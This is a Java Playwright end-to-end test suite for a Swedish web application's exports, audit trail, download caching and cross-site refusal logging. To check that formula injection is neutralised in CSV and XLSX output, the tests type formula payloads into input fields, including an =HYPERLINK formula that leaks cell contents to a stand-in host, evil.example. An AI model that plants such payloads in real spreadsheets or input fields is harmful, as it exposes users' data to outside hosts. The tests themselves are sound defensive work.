package se.samspar.web.e2e;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.microsoft.playwright.APIResponse;
import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Download;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.Response;
import com.microsoft.playwright.options.RequestOptions;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * Exports and downloads that leave the application: spreadsheet formulas in the text users type are neutralised in
 * CSV and stay plain text in XLSX, downloads are never stored by caches, and a refusal caused by a link on another
 * site is marked as such in the audit trail.
 */
@ExtendWith(BrowserExtension.class)
class ExportsBrowserIT {
    private BrowserContext context;
    private Page page;

    @Test
    void activityTitlesThatLookLikeFormulasAreTextInCsvAndXlsx() throws IOException {
        String tag = UUID.randomUUID().toString().substring(0, 6);
        Map<String, String> titles = new LinkedHashMap<>(); // reference → title
        for (String start : List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"Öppna\") ", "+1+1 ", "-2+3 ",
                "@SUM(1,1) ")) {
            titles.put(Browser.newReference("VINR"), start + tag);
        }
        Browser.signIn(page, "samordnare");
        page.navigate(AppServer.url("/agreement-edit?id=1"));
        titles.forEach((reference, title) -> {
            Browser.addVinrActivity(page, reference, title);
        });

        page.navigate(AppServer.url(ActivitiesBrowserIT.ACTIVITIES));
        page.locator("#filters\\:text").fill(tag);
        page.locator("#filters\\:apply").click();
        assertThat(page.locator("#rows\\:activities_data > tr[data-ri]")).hasCount(titles.size());

        Download csv = page.waitForDownload(() -> page.locator("#rows\\:csv").click());
        List<String> lines = Files.readAllLines(csv.path(), StandardCharsets.UTF_8);
        assertEquals(titles.size() + 1, lines.size(), lines.toString());
        titles.forEach((reference, title) -> {
            String escaped = title.replace("\"", "\"\"");
            String line = lines.stream().filter(l -> l.contains(reference)).findFirst()
                    .orElseThrow(() -> new AssertionError(reference + " not in " + lines));
            assertTrue(line.contains(",\"'" + escaped + "\","), "the title's cell starts with ': " + line);
            assertFalse(line.contains(",\"" + escaped), "no cell starts with a formula: " + line);
        });
        // Headings and ordinary cells are as they were.
        assertTrue(lines.get(0).replace("\uFEFF", "").startsWith("\"Ref.\""), lines.get(0));
        assertTrue(lines.get(1).startsWith("\"VINR-T"), lines.get(1));

        Download xlsx = page.waitForDownload(() -> page.locator("#rows\\:xlsx").click());
        List<Cell> cells = new ArrayList<>();
        try (InputStream in = Files.newInputStream(xlsx.path()); XSSFWorkbook book = new XSSFWorkbook(in)) {
            Sheet sheet = book.getSheetAt(0);
            for (Row row : sheet) {
                row.forEach(cells::add);
            }
            for (String title : titles.values()) {
                assertTrue(cells.stream().anyMatch(c -> c.getCellType() == CellType.STRING
                        && title.equals(c.getStringCellValue())), title + " is a text cell of its own");
            }
            assertTrue(cells.stream().noneMatch(c -> c.getCellType() == CellType.FORMULA), "no formula cell");
        }
    }

    @Test
    void textThatLooksLikeAFormulaIsTextInTheAuditTrailsCsv() throws IOException {
        String tag = UUID.randomUUID().toString().substring(0, 6);
        String formula = "=HYPERLINK(\"http://evil.example/" + tag + "\",\"Klicka\")";
        // Without signing in: what is typed as a username is never kept as text (a keyed pseudonym instead).
        page.navigate(AppServer.url("/login"));
        page.locator("#login\\:username").fill(formula);
        page.locator("#login\\:password").fill("inte rätt lösenord");
        page.locator("#login\\:submit").click();
        assertThat(page.locator("#login\\:messages")).not().isEmpty();

        // Signed in: an organisation's name is kept as given, and the audit trail's summary repeats it.
        Browser.signIn(page, "admin");
        page.navigate(AppServer.url("/admin"));
        page.locator("#organisation\\:organisationName").fill(formula);
        page.locator("#organisation\\:organisationShortName").fill("E" + tag);
        page.locator("#organisation\\:organisationType").selectOption("OTHER");
        page.locator("#organisation\\:create").click();
        assertThat(page.locator("#organisationTable")).containsText("evil.example/" + tag);

        page.navigate(AppServer.url("/audit")); // the whole trail, newest first
        assertThat(page.locator("#entries\\:table")).containsText("evil.example/" + tag);
        Download csv = page.waitForDownload(() -> page.locator("#entries\\:csv").click());
        List<String> lines = Files.readAllLines(csv.path(), StandardCharsets.UTF_8);
        List<String> tagged = lines.stream().filter(l -> l.contains(tag)).toList();
        assertEquals(1, tagged.size(), "only the organisation's entry names the text, not the sign-in: " + lines);
        String line = tagged.get(0);
        String escaped = formula.replace("\"", "\"\"");
        assertTrue(line.contains(",\"'" + escaped + "\""), "the summary's cell starts with ': " + line);
        assertFalse(line.contains(",\"" + escaped), line);
        // An entry without field changes exports an empty cell, not the page's markup.
        assertTrue(lines.stream().noneMatch(l -> l.contains("preserve-lines") || l.contains("#{")), lines.toString());

        Download xlsx = page.waitForDownload(() -> page.locator("#entries\\:xlsx").click());
        try (InputStream in = Files.newInputStream(xlsx.path()); XSSFWorkbook book = new XSSFWorkbook(in)) {
            List<Cell> cells = new ArrayList<>();
            book.getSheetAt(0).forEach(row -> row.forEach(c -> {
                if (c.getCellType() == CellType.FORMULA || c.toString().contains(tag)) {
                    cells.add(c);
                }
            }));
            assertFalse(cells.isEmpty());
            cells.forEach(c -> assertEquals(CellType.STRING, c.getCellType(), c.toString()));
            assertTrue(cells.stream().anyMatch(c -> c.getStringCellValue().equals(formula)), cells.toString());
        }
    }

    /**
     * Issue 16 point 9: the audit trail in words and references — a status report reads "Lägesrapport", "Aktivitet
     * VINR-T…", the reporter's name, "Pågår, Enligt plan, 40 %" and "Status: Planerad → Pågår", never the codes the
     * trail stores — in Swedish and in English, axe clean, and its CSV export says the same.
     */
    @Test
    void theAuditTrailSaysWhatHappenedInWordsAndReferencesInBothLanguages() throws IOException {
        String reference = Browser.newReference("VINR");
        Browser.signIn(page, "samordnare");
        page.navigate(AppServer.url("/agreement-edit?id=1"));
        Browser.addVinrActivity(page, reference, "Granskad i ord " + reference);
        page.navigate(AppServer.url("/activities?agreement=1"));
        page.locator("#filters\\:text").fill(reference);
        page.locator("#filters\\:apply").click();
        page.locator("#rows\\:activities a", new Page.LocatorOptions().setHasText(reference)).first().click();
        page.locator("#actions\\:report").click();
        page.locator("#reportForm\\:status").selectOption("IN_PROGRESS");
        page.locator("#reportForm\\:light").selectOption("GREEN");
        page.locator("#reportForm\\:progress").fill("40");
        page.locator("#reportForm\\:submit").click();
        assertThat(page.locator("#current")).containsText("Pågår");

        page.navigate(AppServer.url("/audit"));
        page.locator("#filters\\:agreement").selectOption("1");
        page.locator("#filters\\:subject").selectOption("ACTIVITY");
        page.locator("#filters\\:apply").click();
        var table = page.locator("#entries\\:table");
        var reported = table.locator("tbody tr").first(); // newest first: the report
        assertThat(reported).containsText("Aktivitet " + reference);
        assertThat(reported).containsText("Lägesrapport");
        assertThat(reported).containsText("Anna Lindqvist");
        assertThat(reported).containsText("Pågår, Enligt plan, 40");
        assertThat(reported).containsText("Status: Planerad → Pågår");
        assertThat(reported).containsText("Senaste lägesrapport: – → ");
        assertThat(table.locator("tbody tr").nth(1)).containsText("Skapad");
        String shown = table.innerText();
        for (String code : List.of("STATUS_REPORTED", "IN_PROGRESS", "GREEN", "lastUpdateAt", "CREATED")) {
            assertFalse(shown.contains(code), code + " shown in the trail: " + shown);
        }
        assertFalse(java.util.regex.Pattern.compile("Aktivitet \\d").matcher(shown).find(), "an id for a reference: "
                + shown);
        Axe.assertNoViolations(page);

        Download csv = page.waitForDownload(() -> page.locator("#entries\\:csv").click());
        List<String> lines = Files.readAllLines(csv.path(), StandardCharsets.UTF_8);
        String exported = lines.stream().filter(l -> l.contains("Lägesrapport") && l.contains(reference)).findFirst()
                .orElseThrow(() -> new AssertionError("the report of " + reference + " in words: " + lines));
        assertTrue(exported.contains("Anna Lindqvist") && exported.contains("Pågår, Enligt plan"), exported);
        assertTrue(lines.stream().noneMatch(l -> l.contains("STATUS_REPORTED") || l.contains("lastUpdateAt")),
                lines.toString());

        Browser.switchLanguage(page, "en");
        page.locator("#filters\\:agreement").selectOption("1");
        page.locator("#filters\\:subject").selectOption("ACTIVITY");
        page.locator("#filters\\:apply").click();
        reported = page.locator("#entries\\:table tbody tr").first();
        assertThat(reported).containsText("Activity " + reference);
        assertThat(reported).containsText("Status report");
        assertThat(reported).containsText("In progress, On track, 40%");
        assertThat(reported).containsText("Status: Planned → In progress");
        assertThat(reported).containsText("Latest status report: – → ");
        Axe.assertNoViolations(page);
    }

    @Test
    void followUpDownloadsAreNeverStored() {
        Browser.signIn(page, "samordnare");
        page.navigate(AppServer.url("/follow-ups?agreement=1"));
        page.locator("#open\\:kind").selectOption("ANNUAL");
        page.locator("#open\\:title").fill("Cache " + UUID.randomUUID().toString().substring(0, 6));
        page.locator("#open\\:periodFrom").fill("2023-01-01");
        page.locator("#open\\:periodTo").fill("2023-12-31");
        page.locator("#open\\:submit").click();
        assertThat(page.locator("#status-value")).hasText("Utkast");
        // As behind a proxy that says the browser used HTTPS: that is when OmniFaces' sendFile says "public".
        context.setExtraHTTPHeaders(Map.of("X-Forwarded-Proto", "https"));
        for (String button : List.of("#status\\:pdf", "#status\\:xlsx")) {
            Response response = page.waitForResponse(r -> "POST".equals(r.request().method())
                    && r.url().contains("/follow-up"), () -> page.waitForDownload(() -> page.locator(button).click()));
            assertEquals("no-store", response.allHeaders().get("cache-control"), button);
            assertTrue(String.valueOf(response.allHeaders().get("content-disposition")).startsWith("attachment"));
        }
    }

    @Test
    void aRefusalCausedByAnotherSiteIsMarkedInTheAuditTrail() {
        Browser.signIn(page, "polis");
        // The victim's browser opens a forbidden page from our own site, then follows links on another site (a
        // browser's Sec-Fetch-Site header; an older browser's foreign Referer).
        APIResponse own = page.request().get(AppServer.url("/agreement-edit?id=1"),
                RequestOptions.create().setHeader("Sec-Fetch-Site", "same-origin").setMaxRedirects(0));
        assertEquals(403, own.status());
        APIResponse foreignReferer = page.request().get(AppServer.url("/audit"),
                RequestOptions.create().setHeader("Referer", "https://evil.example/page").setMaxRedirects(0));
        assertEquals(403, foreignReferer.status());
        APIResponse crossSite = page.request().get(AppServer.url("/agreement-edit?id=1"),
                RequestOptions.create().setHeader("Sec-Fetch-Site", "cross-site").setHeader("Sec-Fetch-Mode", "navigate")
                        .setMaxRedirects(0));
        assertEquals(403, crossSite.status());

        Browser.asUser("admin", admin -> {
            admin.navigate(AppServer.url("/audit"));
            // Refusals recorded at the 403 page carry no user name (no caller there); the newest three are ours.
            admin.locator("#filters\\:subject").selectOption("ACCESS");
            admin.locator("#filters\\:apply").click();
            var table = admin.locator("#entries\\:table");
            assertThat(table.locator("tbody tr").first()).containsText("Nekad"); // REFUSED, in words since issue 16
            List<String> newest = table.locator("tbody tr").allInnerTexts().subList(0, 3); // newest first
            assertTrue(newest.get(0).contains("/agreement-edit?id=1") && newest.get(0).contains("cross-site"),
                    newest.toString());
            assertTrue(newest.get(1).contains("/audit") && newest.get(1).contains("cross-site"), newest.toString());
            assertTrue(newest.get(2).contains("/agreement-edit?id=1") && !newest.get(2).contains("cross-site"),
                    newest.toString());
        });
    }
}
